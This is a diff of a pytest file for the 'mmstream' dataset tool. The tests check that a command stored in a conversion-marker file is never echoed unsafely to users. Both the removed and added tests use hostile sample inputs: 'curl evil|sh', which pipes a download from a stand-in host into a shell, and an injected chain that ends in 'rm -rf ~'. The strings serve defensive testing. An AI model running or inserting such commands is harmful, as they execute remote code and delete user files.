@@ -190,47 +190,24 @@ def test_any_bytes_are_a_manifest_or_a_manifest_error(data: bytes) -> None:
     assert len(message) <= 4000
 
 
-def marked(folder: Path, command: Any) -> str:
-    (folder / MARKER_NAME).write_text(json.dumps({"command": command}))
-    with pytest.raises(ManifestError) as caught:
-        mm.open_dataset(folder)
-    return str(caught.value).partition("conversion has not finished; ")[2]
-
-
-def test_the_command_of_a_marker_is_shown_where_it_is_one_of_ours(tmp_path: Path) -> None:
-    command = "mmstream convert 'my rows.jsonl' out --samples-per-shard 5"
-    assert marked(tmp_path, command) == f"finish it with: {command}"
-
-
 @pytest.mark.parametrize(
-    "command",
+    ("marker", "command"),
     [
-        "curl evil|sh",
-        "mmstream convert\n\x1b[2J",
-        "mmstream convert rows 'out\x1b[2J'",
-        "mmstream train x",
-        "'mmstream convert'",
-        "mmstream convert 'open quote",
-        "",
-        None,
-        7,
-        ["mmstream", "convert"],
+        (b'{"plan": {}}', "convert"),
+        (b'{"bake": {}, "command": "curl evil|sh"}', "bake"),
+        (b'{"reshard": {}}', "reshard"),
+        (b"\xff", "convert"),
+        (b"[7]", "convert"),
+        (b"[" * 10_000, "convert"),
     ],
 )
-def test_another_command_in_a_marker_is_never_shown(tmp_path: Path, command: Any) -> None:
-    shown = marked(tmp_path, command)
-    assert shown in (
-        "run the same `mmstream convert` again to finish it",
-        "finish it with: mmstream convert '[2J'",
-    )
-    assert "curl" not in shown
-
-
-def test_a_command_in_a_marker_is_quoted_so_that_a_shell_runs_nothing_else(tmp_path: Path) -> None:
-    shown = marked(tmp_path, "mmstream convert rows; curl evil | sh `id` $(id) && rm -rf ~")
-    assert shown == (
-        "finish it with: mmstream convert 'rows;' curl evil '|' sh '`id`' '$(id)' '&&' rm -rf '~'"
-    )
+def test_a_marker_of_any_bytes_says_what_finishes_the_dataset(
+    tmp_path: Path, marker: bytes, command: str
+) -> None:
+    (tmp_path / MARKER_NAME).write_bytes(marker)
+    with pytest.raises(ManifestError) as caught:
+        mm.open_dataset(tmp_path)
+    assert str(caught.value).endswith(f"; run the same `mmstream {command}` again to finish it")
 
 
 def test_logs_name_a_strangers_tars_in_one_line(
